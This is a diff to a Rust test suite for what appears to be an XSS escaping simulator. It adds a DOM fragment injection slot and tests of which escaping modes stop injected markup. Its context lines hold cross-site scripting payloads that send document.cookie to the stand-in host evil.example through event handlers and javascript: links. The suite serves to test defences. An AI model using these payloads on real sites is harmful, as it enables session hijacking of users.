@@ -36,6 +36,7 @@ fn the_attacker_receives_the_session() {
         (Slot::Content, STEAL),
         (Slot::Search, STEAL),
         (Slot::Content, IMAGE),
+        (Slot::Fragment, IMAGE),
         (Slot::Name, "\" onmouseover=\"fetch('//evil.example/?'+document.cookie)"),
         (Slot::Name, "</td></tr></table><svg onload=fetch('//evil.example/?'+document.cookie)>"),
         (Slot::Link, "javascript:fetch('//evil.example/?'+document.cookie)"),
@@ -88,10 +89,34 @@ fn a_whitelist_refuses_before_the_page() {
     assert!(contains(&honest.answer, b"O'Brien"));
 }
 
+#[test]
+fn a_script_that_writes_markup_undoes_what_the_server_escapes() {
+    for escaping in [Escaping::None, Escaping::OneTag, Escaping::Markup] {
+        assert_eq!(level(escaping, Slot::Fragment, IMAGE), Level::Goal, "{escaping:?}");
+        assert_eq!(level(escaping, Slot::Fragment, "O'Brien & Sons"), Level::Equal);
+    }
+    let held = shown(Escaping::Contextual, Validation::None, Slot::Fragment, IMAGE);
+    assert_eq!((held.level, held.refusal), (Level::Equal, Some(ESCAPED)));
+    assert!(held.sent.is_empty());
+}
+
+#[test]
+fn a_script_element_that_a_script_writes_does_not_run() {
+    assert_eq!(level(Escaping::None, Slot::Fragment, STEAL), Level::Structure);
+    let inside = format!("<iframe srcdoc=\"{}\">", STEAL.replace('"', "&quot;"));
+    assert_eq!(level(Escaping::None, Slot::Fragment, &inside), Level::Goal);
+}
+
 const MARKUP: &str = r#"(.|[<>"'&/=;:%#!-]|script|onload=alert\(1\)|javascript:alert\(1\)|--|&lt|%3c|style|td|\]\]>){0,20}"#;
 
 fn slots() -> impl Strategy<Value = Slot> {
-    prop_oneof![Just(Slot::Name), Just(Slot::Content), Just(Slot::Link), Just(Slot::Search)]
+    prop_oneof![
+        Just(Slot::Name),
+        Just(Slot::Content),
+        Just(Slot::Link),
+        Just(Slot::Search),
+        Just(Slot::Fragment)
+    ]
 }
 
 proptest! {
